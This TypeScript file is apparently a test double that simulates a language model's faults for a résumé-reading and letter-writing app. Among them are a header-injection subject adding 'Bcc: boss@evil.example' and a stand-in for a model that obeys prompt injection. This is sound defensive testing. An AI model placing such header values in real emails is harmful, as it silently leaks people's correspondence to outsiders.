import * as z from 'zod/mini'
import { READING_RULES } from '#core/resume/model-reader/reading-rules.ts'
import { answerInGerman, answerLikeAModel, answerLikeAVictim } from './model.ts'
import { readBadly, readLikeAModel } from './reading.ts'

/** Faults of the wire, of how it is said, of letters, of readings, and of both. */
export const FaultKind = z.enum([
  'throttle', 'internal', 'timeout', 'drop', 'stalls', 'error_in_200', 'no_choices',
  'truncated', 'empty', 'refusal', 'fenced', 'prose', 'thinking', 'not_json', 'other_shape',
  'huge', 'wrong_language', 'subject_newline',
  'invents_employer', 'moves_line', 'moves_title',
  'obeys_injection',
])
export type FaultKind = z.infer<typeof FaultKind>

export const FaultRequest = z.union([
  z.object({ kind: FaultKind, times: z._default(z.number().check(z.int(), z.gte(1)), 1) }),
  z.object({ clear: z.literal(true) }),
])
export type FaultRequest = z.infer<typeof FaultRequest>

/** What the model says in a call, whatever the wire looks like: an answer in the form that was asked for, or words. */
export type ModelTurn =
  | { readonly kind: 'answer'; readonly answer: unknown }
  | { readonly kind: 'words'; readonly words: string }
  | { readonly kind: 'truncated' | 'empty' | 'refusal' }

const HUGE_BYTES = 200 * 1024

/** The answer as words, in the forms that models have been seen to give it. */
const IN_WORDS: { readonly [kind in FaultKind]?: (json: string) => string } = {
  fenced: (json) => `\`\`\`json\n${json}\n\`\`\``,
  prose: (json) => `Here is what you asked for:\n\n${json}\n\nTell me if anything is missing.`,
  thinking: (json) => `<think>The rules ask for {"name": …}. I look at the lines one by one.</think>\n${json}`,
  not_json: (json) => json.replaceAll('"', '“'),
}

async function letterOf(fault: FaultKind | null, { user, system }: Prompt, seed: string): Promise<unknown> {
  if (fault === 'obeys_injection') return await answerLikeAVictim(user, system, seed)
  if (fault === 'wrong_language') return answerInGerman(user)
  const answer = await answerLikeAModel(user, seed)
  if (fault === 'huge') {
    const padding = { text: 'And so on. '.repeat(HUGE_BYTES / 11), sources: [{ kind: 'opinion' as const, quote: '' }] }
    return { ...answer, paragraphs: [...answer.paragraphs, { sentences: [padding] }] }
  }
  return fault === 'subject_newline' ? { ...answer, subject: `${answer.subject}\r\nBcc: boss@evil.example` } : answer
}

function readingOf(fault: FaultKind | null, { user }: Prompt): unknown {
  return fault === 'invents_employer' || fault === 'moves_line' || fault === 'moves_title' || fault === 'obeys_injection' ? readBadly(user, fault) : readLikeAModel(user)
}

interface Prompt {
  readonly system: string
  readonly user: string
}

/** The turn of a healthy model or of one with a fault of what it says; faults of the wire are not its business. */
export async function takeTurn(fault: FaultKind | null, prompt: Prompt, seed: string): Promise<ModelTurn> {
  if (fault === 'truncated' || fault === 'empty' || fault === 'refusal') return { kind: fault }
  if (fault === 'other_shape') return { kind: 'answer', answer: { result: { ok: true } } }
  const answer = prompt.system === READING_RULES ? readingOf(fault, prompt) : await letterOf(fault, prompt, seed)
  const inWords = fault === null ? undefined : IN_WORDS[fault]
  return inWords === undefined ? { kind: 'answer', answer } : { kind: 'words', words: inWords(JSON.stringify(answer)) }
}
